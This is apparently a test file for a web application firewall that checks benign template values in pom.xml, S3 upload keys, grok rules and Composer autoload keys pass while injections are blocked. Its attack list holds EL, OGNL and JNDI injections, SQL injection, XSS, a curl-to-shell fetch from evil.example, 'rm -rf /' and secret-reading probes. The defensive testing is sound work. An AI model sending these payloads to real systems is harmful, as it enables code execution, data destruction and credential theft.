/**
 * The shapes of blind benign set 21 (session 38, bb38, read) through the full pipeline (bundled rules + the shipped
 * model, `warden eval`): a saved pom.xml's property reference, an S3 browser-upload policy's `${filename}` key, a Datadog
 * grok rule with a matcher's arguments and a Composer PSR-4 autoload key pass; injections in the same fields, the
 * expression-language and OGNL probes of the same braces among them, are still blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const json = (host: string, path: string, body: (v: string) => unknown): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
const xml = (host: string, path: string, wrap: (v: string) => string): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: host, 'Content-Type': 'application/xml' }, body: wrap(v) });

const CARRIERS: Record<string, Carrier> = {
  'pom version': xml('deps.example-scan.io', '/api/v1/sbom/scan', (v) => `<?xml version="1.0"?>\n<project><dependencies><dependency><groupId>com.fasterxml.jackson.core</groupId><artifactId>jackson-databind</artifactId><version>${v}</version></dependency></dependencies></project>\n`),
  'upload key': (v) => ({ method: 'POST', path: '/', query: '', headers: { Host: 'uploads.example-store.test', 'Content-Type': 'application/x-www-form-urlencoded' }, body: `key=${encodeURIComponent(v)}&acl=private&Content-Type=image%2Fpng` }),
  'grok rule': json('app.example-logs.test', '/api/v1/logs/config/pipelines', (v) => ({ name: 'java', processors: [{ type: 'grok-parser', source: 'message', grok: { support_rules: v, match_rules: 'rule %{_ts} %{word:level}' } }] })),
  'psr-4 key': (v) => ({ method: 'POST', path: '/api/packages/php/audit', query: '', headers: { Host: 'deps.example-scan.io', 'Content-Type': 'application/json' }, body: `{"composer.json":{"name":"acme/shop","autoload":{"psr-4":{${JSON.stringify(v)}:"app/"}}}}` }),
};

const BENIGN: [string, string][] = [
  ['pom version', '${jackson.version}'],
  ['upload key', 'user/4471/${filename}'],
  ['grok rule', '_ts %{date("yyyy-MM-dd HH:mm:ss,SSS"):timestamp}'],
  ['psr-4 key', 'App\\'],
  ['psr-4 key', 'Database\\Factories\\'],
];

const ATTACKS: [string, string][] = [
  ['pom version', '${spring.datasource.password}'],
  ['pom version', '${env.AWS_SECRET_ACCESS_KEY}'],
  ['pom version', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ['pom version', '${jndi:ldap://evil.example/a}'],
  ['upload key', '${class.classLoader.resources.context.parent.pipeline.first.pattern}'],
  ['upload key', "user/${filename}' OR '1'='1"],
  ['upload key', '${jackson.version}; curl http://evil.example/x.sh | sh'],
  ['upload key', '${pageContext.request.serverName}'],
  ['grok rule', '%{7*7}'],
  ['grok rule', "%{#a=@java.lang.Runtime@getRuntime().exec('id')}"],
  ['grok rule', '%{date("x"):ts}; rm -rf /'],
  ['psr-4 key', "App\\' OR 1=1-- -"],
  ['psr-4 key', 'App\\<script>alert(1)</script>\\'],
];

testCarriers('value shapes of blind benign set 21 through the pipeline', 'lets the property references, the grok rule and the namespace prefixes pass', CARRIERS, BENIGN, ATTACKS);
